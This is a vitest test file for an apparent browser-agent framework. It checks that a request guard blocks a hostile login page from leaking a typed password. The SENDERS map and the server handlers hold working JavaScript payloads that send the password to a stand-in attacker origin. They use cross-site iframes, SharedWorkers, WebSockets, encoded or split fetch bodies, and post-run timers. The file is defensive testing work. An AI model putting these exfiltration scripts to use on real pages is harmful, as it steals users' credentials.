/**
 * The request guard closes channels, not spellings, in real headless Chromium: once the run has typed
 * the password, a page on the allowed origin cannot get it to another origin through a cross-site
 * frame (its own renderer), a SharedWorker, a WebSocket, an encoding the matcher does not know, or a
 * timer that fires after the run has ended. The allowed site is a small server of its own (pages
 * built per channel); `other` is a second site on another origin that serves the frame and accepts
 * WebSockets, and the attacker origin logs every request it receives.
 */
import { createHash } from "node:crypto"
import { createServer, type Server } from "node:http"
import type { AddressInfo } from "node:net"
import { decodeAgentTask, ToolRegistry } from "@sextant/core"
import { type AttackerOrigin, startAttackerOrigin } from "@sextant/fixture-site"
import { makeLlmStepPolicy } from "@sextant/planner"
import { browserTools, compoundTools } from "@sextant/tools"
import { Effect } from "effect"
import { afterAll, beforeAll, expect, it } from "vitest"
import { runAgent } from "../src/index.ts"
import { callsThenStop, startScriptedModel } from "./support/HostileRig.ts"

const PASSWORD = "open sesame+42"
let attacker: AttackerOrigin
let site: Server
let other: Server
let siteUrl = ""
let otherPort = 0
const wsFrames: Array<string> = []
const listen = (server: Server) =>
  new Promise<number>((ok) => server.listen(0, "127.0.0.1", () => ok((server.address() as AddressInfo).port)))

// Each page: a same-origin login form; `SEND(pw)` runs once the password field holds the whole value.
const SENDERS: Record<string, string> = {
  // A frame on another site (localhost vs 127.0.0.1) runs in its own renderer: its fetch is not paused.
  iframe: `document.body.insertAdjacentHTML('beforeend', '<iframe id=f src="http://localhost:' + OTHER + '/frame"></iframe>')
    const SEND = (pw) => document.getElementById('f').contentWindow.postMessage(pw, '*')`,
  lateSharedWorker: `const SEND = (pw) => { const w = new SharedWorker('/shared.js', 'late'); w.port.postMessage(pw) }`,
  sharedWorker: `const w = new SharedWorker('/shared.js'); const SEND = (pw) => w.port.postMessage(pw)`,
  websocket: `const SEND = (pw) => { const ws = new WebSocket('ws://127.0.0.1:' + OTHER + '/ws'); ws.onopen = () => ws.send(pw) }`,
  // After typing, the tab goes on to a second page of the same site (or opens it in a popup), which
  // opens a WebSocket to the other origin and sends the password there: a document the guard did not
  // hold when it armed.
  websocketNextPage: `const SEND = (pw) => { localStorage.setItem('pw', pw); location.href = '/ws-next' }`,
  // The pop-up opens on the input event of the password's last character, while the fill step runs.
  websocketPopup: `let opened = false
    const SEND = () => {}
    document.getElementById('password').addEventListener('input', (e) => {
      if (!opened && e.target.value.length >= 14) { opened = true; localStorage.setItem('pw', e.target.value); window.open('/ws-next', '_blank') } })`,
  // A SharedWorker the page starts after typing opens the WebSocket itself.
  websocketWorker: `const SEND = (pw) => { const w = new SharedWorker('/shared-ws.js', 'ws'); w.port.postMessage(pw) }`,
  encoded: `const SEND = (pw) => {
    fetch(A + '/u', { method: 'POST', mode: 'no-cors', body: '{"p":"' + [...pw].map(c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') + '"}' })
    fetch(A + '/b64', { method: 'POST', mode: 'no-cors', body: btoa('x' + pw) })
    fetch(A + '/a', { method: 'POST', mode: 'no-cors', body: pw.slice(0, 7) }); fetch(A + '/b', { method: 'POST', mode: 'no-cors', body: pw.slice(7) }) }`,
  // Plain text every 500 ms after typing, on past the end of the run (which releases the guard).
  // Harmless: an image from another origin, carrying nothing, asked for by the input event of the
  // password's last character, so while the fill step runs (the shared 50 ms poll could fire only after
  // the run has ended and released the guard, and the image would then rightly load).
  thirdParty: `let asked = false
    const SEND = () => { if (!asked) { asked = true; new Image().src = A + '/pixel.gif' } }
    document.getElementById('password').addEventListener('input', (e) => { if (e.target.value.length >= 14) SEND() })`,
  // Base64 (a spelling the matcher does not know) every 2 ms, so some are made while the run ends.
  busyAfterRun: `const SEND = (pw) => setInterval(() => fetch(A + '/busy', { method: 'POST', mode: 'no-cors', body: btoa('x' + pw) }), 2)`,
  // A second origin the task allows: after typing, the page fetches from it and loads an image from it.
  allowedOther: `let asked = false
    const SEND = () => { if (!asked) { asked = true; fetch(A + '/allowed-fetch', { mode: 'no-cors' }); new Image().src = A + '/allowed-image.gif' } }
    document.getElementById('password').addEventListener('input', (e) => { if (e.target.value.length >= 14) SEND() })`,
  // The tab itself leaves for another origin once the password is typed (no secret in the URL).
  navigateAway: `let asked = false
    const SEND = () => { if (!asked) { asked = true; location.href = A + '/away' } }
    document.getElementById('password').addEventListener('input', (e) => { if (e.target.value.length >= 14) SEND() })`,
  afterRun: `const SEND = (pw) => setInterval(() => fetch(A + '/late?p=' + encodeURIComponent(pw), { mode: 'no-cors' }), 500)`,
}
const page = (
  kind: string,
) => `<!doctype html><html><head><meta charset="utf-8"><title>Sign in</title></head><body><h1>Sign in</h1>
<form method="post" action="/login"><label for="email">Email</label><input type="email" id="email" name="email">
<label for="password">Password</label><input type="password" id="password" name="password" autocomplete="current-password">
<button type="submit">Sign in</button></form>
<script>const A = ${JSON.stringify(attacker.url)}, OTHER = ${otherPort}
${SENDERS[kind]}
let sent = false
setInterval(() => { const pw = document.getElementById('password').value; if (!sent && pw.length >= 14) { sent = true; SEND(pw) } }, 50)
</script></body></html>`

// The model fills the form, the password as its placeholder, reads the heading, then stops.
const calls = [
  { name: "fill", args: { target: "#email", value: "a@example.com" } },
  { name: "fill", args: { target: "#password", value: "<secret:password>" } },
  { name: "extract", args: { target: "h1" } },
]
const scripted = startScriptedModel({ taskComplete: true, summary: "s" })

beforeAll(async () => {
  attacker = await startAttackerOrigin()
  other = createServer((_, res) => {
    res.writeHead(200, { "content-type": "text/html" })
    res.end(
      `<script>addEventListener('message', (e) => fetch(${JSON.stringify(attacker.url)} + '/frame?p=' + encodeURIComponent(e.data), { mode: 'no-cors' }))</script>`,
    )
  })
  other.on("upgrade", (req, socket) => {
    const accept = createHash("sha1")
      .update(`${req.headers["sec-websocket-key"]}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
      .digest("base64")
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    )
    socket.on("data", (b: Buffer) =>
      wsFrames.push(
        Buffer.from(b.subarray(6, 6 + (b[1]! & 0x7f)).map((x, i) => x ^ b[2 + (i % 4)]!)).toString(),
      ),
    )
  })
  otherPort = await listen(other)
  site = createServer((req, res) => {
    if (req.url === "/shared.js") {
      res.writeHead(200, { "content-type": "text/javascript" })
      res.end(
        `onconnect = (e) => { e.ports[0].onmessage = (m) => fetch(${JSON.stringify(attacker.url)} + '/shared?p=' + encodeURIComponent(m.data), { mode: 'no-cors' }) }`,
      )
      return
    }
    if (req.url === "/shared-ws.js") {
      res.writeHead(200, { "content-type": "text/javascript" })
      res.end(
        `onconnect = (e) => { e.ports[0].onmessage = (m) => { const ws = new WebSocket('ws://127.0.0.1:${otherPort}/ws'); ws.onopen = () => ws.send(m.data) } }`,
      )
      return
    }
    res.writeHead(200, { "content-type": "text/html" })
    if (req.url === "/ws-next") {
      res.end(`<!doctype html><html><head><meta charset="utf-8"><title>Welcome</title></head><body><h1>Welcome</h1>
<script>const ws = new WebSocket('ws://127.0.0.1:${otherPort}/ws'); ws.onopen = () => ws.send(localStorage.getItem('pw'))</script></body></html>`)
      return
    }
    res.end(page(new URL(req.url ?? "/", "http://x").searchParams.get("k") ?? ""))
  })
  siteUrl = `http://127.0.0.1:${await listen(site)}`
}, 60_000)
afterAll(async () => {
  await attacker?.close()
  site?.close()
  other?.close()
})

// How long after the run the attacker and the other origin are watched. A page that leaks sends at once
// (the 50 ms poll above, a fetch to 127.0.0.1): 300 ms catches it; the tests that need longer say so.
const signIn = async (
  kind: string,
  wait = 300,
  allowedOrigins?: ReadonlyArray<string>,
  steps: ReadonlyArray<{ readonly name: string; readonly args: Record<string, unknown> }> = calls,
) => {
  scripted.script(callsThenStop(steps))
  const since = attacker.requests.length
  const task = Effect.runSync(
    decodeAgentTask({
      goal: "sign in",
      startUrl: `${siteUrl}/login?k=${kind}`,
      inputs: { email: "a@example.com", password: PASSWORD },
      secretInputs: ["password"],
      constraints: {
        allowFormSubmission: true,
        maxSteps: 6,
        stepTimeoutMs: 8_000,
        maxDurationMs: 30_000,
        ...(allowedOrigins === undefined ? {} : { allowedOrigins }),
      },
    }),
  )
  const result = await scripted.runtime.runPromise(
    Effect.gen(function* () {
      const registry = yield* ToolRegistry.make([...browserTools, ...compoundTools])
      const policy = yield* makeLlmStepPolicy({ registry })
      return yield* runAgent(task, policy, { tools: registry, noOpBackoffMs: 5, screenshots: "never" })
    }),
  )
  await new Promise((resolve) => setTimeout(resolve, wait))
  return {
    result,
    sent: attacker.requests.slice(since).map((request) => `${request.method} ${request.url} ${request.body}`),
  }
}

it("a cross-site iframe the page posts the password to does not send it", async () => {
  expect((await signIn("iframe")).sent).toEqual([])
}, 60_000)

it("a SharedWorker the page posts the password to does not send it", async () => {
  expect((await signIn("sharedWorker")).sent).toEqual([])
}, 60_000)

// The worker is started by the page after the password is typed, so it never ran before the guard armed.
// Repeated: it once sent the password about one run in four (the worker got its loaders before its own
// session's interception was in).
it("a SharedWorker started after the password is typed does not send it", {
  timeout: 60_000,
  repeats: 4,
}, async () => {
  expect((await signIn("lateSharedWorker")).sent).toEqual([])
})

it("a WebSocket to another origin does not carry the password", async () => {
  await signIn("websocket")
  expect(wsFrames).toEqual([])
}, 60_000)

it("a WebSocket opened by the next page of the same site does not carry the password", async () => {
  const since = wsFrames.length
  await signIn("websocketNextPage")
  expect(wsFrames.slice(since)).toEqual([])
}, 60_000)

it("a WebSocket opened by a pop-up of the same site does not carry the password", async () => {
  const since = wsFrames.length
  // The pop-up or worker opens its WebSocket well after the run typed: a second lets it arrive.
  await signIn("websocketPopup", 1_000)
  expect(wsFrames.slice(since)).toEqual([])
}, 60_000)

it("a WebSocket opened by a SharedWorker started after typing does not carry the password", async () => {
  const since = wsFrames.length
  // The pop-up or worker opens its WebSocket well after the run typed: a second lets it arrive.
  await signIn("websocketWorker", 1_000)
  expect(wsFrames.slice(since)).toEqual([])
}, 60_000)

it("encoded and split spellings of the password do not leave", async () => {
  expect((await signIn("encoded")).sent).toEqual([])
}, 60_000)

it("the page cannot send the password once the run has ended", async () => {
  // The page tries every 500 ms: 2 s after the run gives it four tries once the guard is gone.
  expect((await signIn("afterRun", 2_000)).sent).toEqual([])
}, 60_000)

it("a page that sends the password every 2 ms in an unknown spelling sends nothing while the run ends", async () => {
  // Every 2 ms: a second after the run is hundreds of tries.
  expect((await signIn("busyAfterRun", 1_000)).sent).toEqual([])
}, 60_000)

it("after typing, a request to another origin without the secret is blocked and is no guardrail event", async () => {
  const { result, sent } = await signIn("thirdParty")
  expect(sent).toEqual([])
  // No guardrail event: the run went on to its next step (a secret-origin event ends it at once).
  expect(result.observations.map((observation) => [observation.tool, observation.ok])).toEqual([
    ["fill", true],
    ["fill", true],
    ["extract", true],
  ])
}, 60_000)

it("after typing, requests to a second origin the task allows still reach it", async () => {
  const { result, sent } = await signIn("allowedOther", 1_000, [siteUrl, attacker.url])
  expect(result.observations.map((observation) => [observation.tool, observation.ok])).toEqual([
    ["fill", true],
    ["fill", true],
    ["extract", true],
  ])
  expect(sent.map((line) => line.split(" ").slice(0, 2).join(" ")).sort()).toEqual([
    "GET /allowed-fetch",
    "GET /allowed-image.gif",
  ])
}, 60_000)

it("after typing, the run can go on to a second origin the task allows", async () => {
  const steps = [...calls, { name: "navigate", args: { url: `${attacker.url}/next-page` } }]
  const { result, sent } = await signIn("thirdParty", 1_000, [siteUrl, attacker.url], steps)
  expect(result.observations.map((observation) => [observation.tool, observation.ok])).toEqual([
    ["fill", true],
    ["fill", true],
    ["extract", true],
    ["navigate", true],
  ])
  expect(sent.map((line) => line.split(" ").slice(0, 2).join(" "))).toContain("GET /next-page")
}, 60_000)

it("after typing, the tab's move to another origin is blocked and said as a secret-origin event", async () => {
  const { result, sent } = await signIn("navigateAway")
  expect(sent).toEqual([])
  expect(result.status).toBe("FAILED")
  expect(result.summary.summary).toContain(
    `the page tried to load a page on ${new URL(attacker.url).origin} (GET) after a secret was typed`,
  )
}, 60_000)
